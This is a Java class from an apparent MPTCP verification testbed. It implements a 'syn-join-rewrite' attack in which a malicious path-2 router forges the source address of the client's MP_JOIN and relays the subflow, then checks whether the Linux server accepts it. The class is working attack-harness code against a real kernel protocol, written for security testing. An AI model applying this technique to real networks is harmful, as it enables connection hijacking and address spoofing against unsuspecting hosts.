package org.mptcpverify.kernel;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.mptcpverify.vocab.AttackId;

/**
 * syn-join-rewrite: the attacker is the router of path 2 (the client's second interface, 10.2.0.1).
 * When the client's in-kernel path manager opens a join on path 2, the attacker does not forward
 * its SYN + MP_JOIN as it is (the original never reaches the server) but a copy whose source is
 * the attacker's chosen address 10.1.0.66, and then translates every segment of that subflow both
 * ways. It knows no key: the client's own HMACs authenticate the join, and nothing in them binds
 * the address. Success: the server kernel holds an established subflow of the connection whose
 * peer is 10.1.0.66 (`ss`, MPTCP_INFO `subflows`, `MPTcpExtMPJoinAckRx`), the client's join from
 * 10.2.0.1 is up, and no frame from 10.2.0.1 ever reached path 1.
 */
public final class SynJoinRewrite implements KernelAttack {
    /** The client's MPTCP endpoint id on path 2 (the address id its SYN + MP_JOIN carries). */
    static final int ENDPOINT_ID = 2;

    @Override
    public Profile profile() {
        return Profile.of(AttackId.SYN_JOIN_REWRITE,
                "wrong keys: the relayed third ACK carries an HMAC-A computed from wrong keys instead of the client's");
    }

    @Override
    public boolean onPath2() {
        return true;
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        Wiretap path2 = ctx.path2().orElseThrow(() -> new IOException("syn-join-rewrite needs path 2"));
        Topology topo = ctx.topology();
        int path1Mark = ctx.tap().size();
        try (JoinRewriter rw = new JoinRewriter(ctx.tap(), path2, ctx.wrongKeys() ? Optional.of(ctx.fresh()) : Optional.empty())) {
            Commands.run("ip", "-n", topo.client(), "mptcp", "endpoint", "add", Topology.CLIENT_2.getHostAddress(),
                    "dev", Topology.IFACE_2, "id", Integer.toString(ENDPOINT_ID), "subflow");
            ctx.note("client: MPTCP endpoint " + Topology.CLIENT_2.getHostAddress() + " id " + ENDPOINT_ID
                    + " (subflow) added; its path manager opens a join over path 2, whose router is the attacker");
            awaitJoin(ctx);
            rw.notes().forEach(ctx::note);
        }
        List<String> serverSide = Ss.established(topo.server(), Topology.FORGED, 0);
        List<String> clientSide = Ss.established(topo.client(), Topology.CLIENT_2, 0);
        ctx.note("server ss (established, peer " + Topology.FORGED.getHostAddress() + "): "
                + (serverSide.isEmpty() ? "none" : String.join("; ", serverSide.stream().map(Ss::brief).toList())));
        ctx.note("client ss (established, local " + Topology.CLIENT_2.getHostAddress() + "): "
                + (clientSide.isEmpty() ? "none" : String.join("; ", clientSide.stream().map(Ss::brief).toList())));
        int serverSubflows = PathManager.subflows(ctx.server());
        int clientSubflows = PathManager.subflows(ctx.client());
        ctx.note("MPTCP_INFO additional subflows: server " + serverSubflows + ", client " + clientSubflows);
        boolean leaked = ctx.tap().segments().stream().skip(path1Mark)
                .anyMatch(s -> s.segment().src().equals(Topology.CLIENT_2));
        ctx.note("path 1: " + (leaked ? "a segment from " + Topology.CLIENT_2.getHostAddress() + " reached it"
                : "no segment from " + Topology.CLIENT_2.getHostAddress() + " reached it (the original SYN + MP_JOIN was suppressed)"));
        Map<String, Long> server = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + server);
        ctx.note("client MIB counters changed: " + ctx.clientCounterDelta());
        return !serverSide.isEmpty() && !clientSide.isEmpty() && serverSubflows >= 1 && !leaked
                && server.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 1;
    }

    /** Polls the server's MPTCP_INFO until it counts a subflow, or the server resets the join, or 3 s pass. */
    private static void awaitJoin(AttackContext ctx) throws IOException {
        long deadline = System.nanoTime() + 3_000_000_000L;
        while (System.nanoTime() < deadline) {
            if (PathManager.subflows(ctx.server()) >= 1 && PathManager.subflows(ctx.client()) >= 1) {
                return;
            }
            if (ctx.serverCounterDelta().getOrDefault("MPTcpExtMPJoinAckHMacFailure", 0L) > 0) {
                return;
            }
            PathManager.sleep(100);
        }
    }
}
